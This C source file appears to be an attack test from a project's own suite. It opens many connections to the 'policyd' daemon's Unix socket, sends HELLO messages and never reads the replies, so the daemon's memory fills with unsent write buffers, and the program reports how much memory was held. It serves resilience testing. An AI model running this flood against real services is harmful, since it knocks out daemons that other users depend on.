/* Attack: policyd's memory taken by replies a session never reads. Opens
 * CONNS connections to SOCK (policyd's agent.sock), on each sends HELLOS
 * HELLO messages (16 bytes each; policyd answers each with its HELLO_OK,
 * the session's fast-path globs) and never reads: what the socket cannot
 * take policyd keeps in the connection's write buffer. One HELLO a
 * connection is a client that waits for its answer (policyd closes a
 * connection that asks again first, as pipelining); its answer is left
 * in policyd where it is longer than the kernel's queue takes. Holds them
 * SECS seconds, then exits. Prints "reply R bytes, the kernel queued Q"
 * (one connection's HELLO_OK, from its header, read with MSG_PEEK, and
 * what of it reached the socket), "held N connections" (those policyd
 * had not closed, as far as the attacker can tell), "closed M
 * connections", "policyd keeps K bytes" (with one HELLO a connection: the
 * sum over the held connections of what of their reply never reached
 * them), then "done". Usage: conn_wflood SOCK CONNS HELLOS SECS */
#include <errno.h>
#include <fcntl.h>
#include <linux/sockios.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "../../common/tg_proto.h"
#include "unixconn.h"

static int open_one(const char *path, int hellos)
{
	int fd = unix_connect(path);
	if (fd < 0)
		return fd;
	fcntl(fd, F_SETFL, O_NONBLOCK);
	struct tgp_hdr h = {TGP_MAGIC, TGP_HELLO, 0, 1, 0};
	for (int i = 0; i < hellos; i++) {
		h.id = (uint32_t)i + 1;
		if (send(fd, &h, sizeof(h), MSG_NOSIGNAL) != sizeof(h))
			break;
	}
	return fd;
}

/* the length of the reply at the head of fd's queue (its header, peeked),
 * and the bytes queued there; -1 where no whole header is queued */
static long queued_reply(int fd, long *ret_queued)
{
	int q = 0;
	struct tgp_hdr h;
	if (ioctl(fd, SIOCINQ, &q) < 0 ||
	    recv(fd, &h, sizeof(h), MSG_PEEK | MSG_DONTWAIT) != sizeof(h) ||
	    h.magic != TGP_MAGIC || h.type != TGP_HELLO_OK)
		return -1;
	*ret_queued = q;
	return (long)(sizeof(h) + h.len);
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	int conns = atoi(argv[2]), hellos = atoi(argv[3]);
	struct rlimit nl;
	getrlimit(RLIMIT_NOFILE, &nl);
	if (conns > (int)nl.rlim_cur - 50) {
		nl.rlim_cur = nl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &nl);
		if (conns > (int)nl.rlim_cur - 50)
			conns = (int)nl.rlim_cur - 50;
	}
	int *fds = calloc((size_t)conns, sizeof(int));
	int n = 0;
	while (n < conns) {
		int fd = open_one(argv[1], hellos);
		if (fd < 0)
			break;
		fds[n++] = fd;
	}
	usleep(500000); /* policyd's answers and closes arrive */
	int k = 0;
	long kept = 0, reply = -1, first_q = 0;
	for (int i = 0; i < n; i++) {
		struct pollfd p = {.fd = fds[i], .events = POLLRDHUP};
		if (poll(&p, 1, 0) != 0 && (p.revents & (POLLRDHUP | POLLHUP)))
			continue;
		k++;
		long q = 0, r = queued_reply(fds[i], &q);
		if (r < 0 || hellos != 1)
			continue;
		if (reply < 0) {
			reply = r;
			first_q = q;
		}
		kept += r > q ? r - q : 0;
	}
	printf("reply %ld bytes, the kernel queued %ld\n", reply, first_q);
	printf("held %d connections\n", k);
	printf("closed %d connections\n", n - k);
	printf("policyd keeps %ld bytes\n", kept);
	fflush(stdout);
	sleep((unsigned)atoi(argv[4]));
	printf("done\n");
	return 0;
}
